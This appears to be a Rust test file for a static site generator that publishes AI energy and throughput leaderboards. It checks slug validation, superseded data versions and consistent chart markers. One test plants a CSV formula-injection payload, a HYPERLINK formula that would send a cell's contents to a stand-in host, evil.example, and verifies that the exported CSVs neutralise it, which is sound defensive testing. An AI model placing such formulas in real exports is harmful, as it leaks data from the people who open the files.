        data.join("lm-arena-chat/fake.json"),
        serde_json::to_vec_pretty(&doc).unwrap(),
    )
    .unwrap();
    let out = energyboard(&[
        "build",
        "--data",
        data.to_str().unwrap(),
        "--out",
        dir.path().join("site").to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("lm-arena-chat/fake.json: slug: \"example-lab--fake\" has a source's prefix"),
        "{err}"
    );
    // Its slug plain, the source's id alone is refused too.
    doc["slug"] = "fake".into();
    std::fs::write(
        data.join("lm-arena-chat/fake.json"),
        serde_json::to_vec_pretty(&doc).unwrap(),
    )
    .unwrap();
    let out = energyboard(&[
        "build",
        "--data",
        data.to_str().unwrap(),
        "--out",
        dir.path().join("site").to_str().unwrap(),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(
            "fake.json: source.id: is \"example-lab\", but the file is not under \
        sources/example-lab/"
        ),
        "{err}"
    );
}

#[test]
fn a_source_name_that_looks_like_a_formula_is_guarded_in_every_csv() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    import_leaderboard(&data);
    let config = dir.path().join("energyboard.toml");
    let text = read(&PathBuf::from(ROOT).join("tests/fixtures/sources/energyboard.toml"));
    let evil = "=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Lab\"\")";
    std::fs::write(
        &config,
        text.replace(
            "name = \"Example Lab measurements\"",
            "name = '=HYPERLINK(\"https://evil.example/?\"&A2,\"Lab\")'",
        ),
    )
    .unwrap();
    ok(&energyboard(&[
        "import",
        "--from",
        "tests/fixtures/sources/public-data",
        "--data",
        data.to_str().unwrap(),
        "--source",
        LAB,
        "--config",
        config.to_str().unwrap(),
        "--retrieved",
        "2026-11-21",
    ]));
    let site = dir.path().join("site");
    build(&data, &site);
    let mut checked = 0;
    for (rel, bytes) in file_tree(&site) {
        if rel.extension().is_none_or(|x| x != "csv") {
            continue;
        }
        let text = String::from_utf8(bytes).unwrap();
        for line in text.lines().skip(1) {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                let formula = cell.starts_with(['=', '+', '@'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(!formula, "{}: {cell}", rel.display());
            }
        }
        checked += usize::from(text.contains(&format!("'{evil}")));
    }
    assert!(checked > 0, "no CSV names the source");
}

#[test]
fn a_sources_superseded_figures_keep_their_version_page_and_its_imports_are_labelled() {
    let dir = tempfile::tempdir().unwrap();
    let data = two_sources(dir.path());
    // The lab's next version: every throughput of its Qwen 3 8B rows 10 %
    // higher, published 2026-12-01.
    let next = dir.path().join("next");
    energyboard::stage::copy_tree(
        &Path::new(ROOT).join("tests/fixtures/sources/public-data"),
        &next,
    )
    .unwrap();
    let edit = |rel: &str, change: &dyn Fn(&mut serde_json::Value)| {
        let path = next.join(rel);
        let mut doc: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
        change(&mut doc);
        std::fs::write(&path, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    };
    edit("index.json", &|d| d["last_updated"] = "2026-12-01".into());
    edit("tasks/lm-arena-chat.json", &|d| {
        for row in d["configurations"].as_array_mut().unwrap() {
            if row["model_id"] == "Qwen/Qwen3-8B" {
                let t = row["output_throughput_tokens_per_sec"].as_f64().unwrap();
                row["output_throughput_tokens_per_sec"] = (t * 1.1).into();
            }
        }
    });
    ok(&import_lab(&data, next.to_str().unwrap()));
    let kept = "sources/example-lab/history/lm-arena-chat/example-lab--qwen-3-8b/2026-11-20.json";
    assert!(data.join(kept).is_file(), "no {kept}");
    let site = dir.path().join("site");
    build(&data, &site);

    let model = "workloads/lm-arena-chat/models/example-lab--qwen-3-8b/";
    let old = read(&site.join(format!("{model}v/2026-11-20/index.html")));
    assert!(
        old.contains("Superseded by data version 2026-12-01"),
        "{old}"
    );
    assert!(old.contains(r#"changes/index.html#example-lab-import-2">change log</a>"#));
    assert!(old.contains("configurations corrected (tokens_per_second)"));
    assert!(
        site.join(format!("{model}v/2026-12-01/index.html"))
            .is_file()
    );
    // The change log labels the lab's second import with the lab.
    let page = Html::parse_document(&read(&site.join("changes/index.html")));
    let heading = page
        .select(&sel("section#example-lab-import-2 h2"))
        .map(text_of)
        .next();
    assert_eq!(
        heading.as_deref(),
        Some("Example Lab measurements data of 2026-12-01")
    );
}

/// A point's look on a chart: its palette slot (the `pN`/`fN`/`sN` class
/// of its marker) and its marker's shape (element, and the outline's
/// corners around its centre).
fn point_look(shape: roxmltree::Node<'_, '_>) -> String {
    let slot: String = shape
        .attribute("class")
        .unwrap_or("")
        .split(' ')
        .filter(|c| c.len() > 1 && c[1..].bytes().all(|b| b.is_ascii_digit()))
        .map(|c| c[1..].to_owned())
        .collect::<Vec<_>>()
        .join("+");
    let outline = match shape.tag_name().name() {
        "polygon" | "polyline" => {
            let mut corners: Vec<(i64, i64)> = shape
                .attribute("points")
                .unwrap_or("")
                .split_whitespace()
                .filter_map(|p| p.split_once(','))
                .map(|(x, y)| {
                    (
                        x.parse::<f64>().unwrap() as i64,
                        y.parse::<f64>().unwrap() as i64,
                    )
                })
                .collect();
            // An open marker closes its outline by repeating the first corner.
            if corners.len() > 1 && corners.first() == corners.last() {
                corners.pop();
            }
            let (xs, ys): (Vec<i64>, Vec<i64>) = corners.iter().copied().unzip();
            let cx = xs.iter().min().unwrap() + xs.iter().max().unwrap();
            let cy = ys.iter().min().unwrap() + ys.iter().max().unwrap();
            let mut around: Vec<(i64, i64)> = corners
                .iter()
                .map(|&(x, y)| (2 * x - cx, 2 * y - cy))
                .collect();
            around.sort_unstable();
            format!("{around:?}")
        }
        other => other.to_owned(),
    };
    format!("slot {slot}, {outline}")
}

/// Every chart of `site` that draws the points of two models or more (SVG
/// files, and drawings inline in pages, templates included): each model's
/// looks, by its slug, with the charts it was seen on.
fn model_looks_in(site: &Path) -> BTreeMap<String, BTreeMap<String, Vec<String>>> {
    let mut looks: BTreeMap<String, BTreeMap<String, Vec<String>>> = BTreeMap::new();
    for entry in walkdir::WalkDir::new(site).sort_by_file_name() {
        let entry = entry.unwrap();
        let rel = entry
            .path()
            .strip_prefix(site)
            .unwrap()
            .to_string_lossy()
            .into_owned();
        let text = match entry.path().extension().and_then(|e| e.to_str()) {
            Some("svg" | "html") => fs::read_to_string(entry.path()).unwrap(),
            _ => continue,
        };
        let drawings: Vec<&str> = if rel.ends_with(".svg") {
            vec![text.as_str()]
        } else {
            text.match_indices("<svg")
                .filter_map(|(at, _)| text[at..].find("</svg>").map(|end| &text[at..at + end + 6]))
                .collect()
        };
        for svg in drawings {
            let Ok(doc) = roxmltree::Document::parse(svg) else {
                continue;
            };
            let mut seen: Vec<(String, String)> = Vec::new();
            for a in doc.descendants().filter(|n| {
                n.tag_name().name() == "a"
                    && n.attribute("class")
                        .is_some_and(|c| c.split(' ').any(|c| c == "pt"))
            }) {
                let Some(href) = a.attribute("href") else {
                    continue;
                };
                let Some(slug) = href
                    .split("models/")
                    .nth(1)
                    .and_then(|rest| rest.split('/').next())
                else {
                    continue;
                };
                let Some(shape) = a.children().find(|c| {
                    matches!(
                        c.tag_name().name(),
                        "polygon" | "polyline" | "circle" | "rect" | "path"
                    )
                }) else {
                    continue;
                };
                seen.push((slug.to_owned(), point_look(shape)));
            }
            let models: BTreeSet<&str> = seen.iter().map(|(s, _)| s.as_str()).collect();
            if models.len() < 2 {
                continue;
            }
            for (slug, look) in seen {
                let charts = looks.entry(slug).or_default().entry(look).or_default();
                if charts.last() != Some(&rel) {
                    charts.push(rel.clone());
                }
            }
        }
    }
    looks
}

/// Issue 42: a model keeps one colour and one marker on every chart of the
/// site that draws several models, across workloads and pages, on the
/// leaderboard's site and beside a second source (filled and open markers
/// of one model share their slot and outline).
#[test]
fn each_model_has_one_look_on_every_chart_of_the_site() {
    let dir = tempfile::tempdir().unwrap();
    let two = two_source_site(dir.path());
    for site in [Path::new("site"), two.as_path()] {
        let looks = model_looks_in(site);
        assert!(
            looks.len() > 10,
            "{}: {} models on charts",
            site.display(),
            looks.len()
        );
        let charts: BTreeSet<&String> = looks.values().flat_map(|l| l.values().flatten()).collect();
        // The two-source site is one workload: its scatter (phone and wide),
        // bars and comparison.
        assert!(
            charts.len() >= 4,
            "{}: {} charts",
            site.display(),
            charts.len()
        );
        let several: Vec<String> = looks
            .iter()
            .filter(|(_, l)| l.len() > 1)
            .map(|(slug, l)| format!("{slug}: {l:?}"))
            .collect();
        assert!(
            several.is_empty(),
            "{}: {}",
            site.display(),
            several.join("\n")
        );
    }
}
